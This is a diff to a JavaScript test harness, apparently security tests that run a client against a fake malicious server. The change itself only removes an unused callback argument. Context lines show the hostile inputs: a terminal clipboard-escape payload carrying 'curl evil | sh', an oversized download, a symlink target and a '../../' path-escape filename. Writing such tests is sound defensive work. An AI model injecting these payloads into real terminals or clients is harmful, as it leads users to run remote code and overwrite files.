@@ -24,7 +24,7 @@ const EVIL = `\x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07\
 if (mode === 'escapes') {
   let step = 0;
   const server = await fakeServer(
-    (req, _conn, tcpPort) => {
+    (req, tcpPort) => {
       if (req.cmd === 'username' || req.cmd === 'password' || req.cmd === 'XIT') return login(req);
       if (req.cmd === 'DWN' || req.cmd === 'UPD') {
         const g = grant(req, tcpPort, req.cmd === 'DWN' ? 'download' : 'upload', `done ${EVIL}`);
@@ -53,7 +53,7 @@ if (mode === 'escapes') {
   await server.close();
 } else if (mode === 'dwn-huge') {
   const server = await fakeServer(
-    (req, _c, tcpPort) => login(req) ?? grant(req, tcpPort, 'download'),
+    (req, tcpPort) => login(req) ?? grant(req, tcpPort, 'download'),
     (ch) => {
       ch.write(`OK ${2 ** 49}\n`);
       const zeros = Buffer.alloc(1024 * 1024);
@@ -71,7 +71,7 @@ if (mode === 'escapes') {
   console.log(`[${mode}] stdout: ${JSON.stringify(run.stdout.split('\n').slice(-3).join(' | '))}`);
   await server.close();
 } else if (mode === 'dwn-symlink') {
-  const server = await fakeServer((req, _c, tcpPort) => login(req) ?? grant(req, tcpPort, 'download'), (ch) => ch.end('OK 7\nHOSTILE'));
+  const server = await fakeServer((req, tcpPort) => login(req) ?? grant(req, tcpPort, 'download'), (ch) => ch.end('OK 7\nHOSTILE'));
   const base = await mkdtemp(join(tmpdir(), 'a11-link-'));
   const cwd = join(base, 'cwd');
   await mkdir(cwd);
@@ -85,7 +85,7 @@ if (mode === 'escapes') {
 } else if (mode === 'dwn-name') {
   // The grant names another file, a path out of the directory and a size that is not the sealed one.
   const server = await fakeServer(
-    (req, _c, tcpPort) => {
+    (req, tcpPort) => {
       const l = login(req);
       if (l !== undefined) return l;
       const g = grant(req, tcpPort, 'download', 'Downloaded ../../escaped.txt');
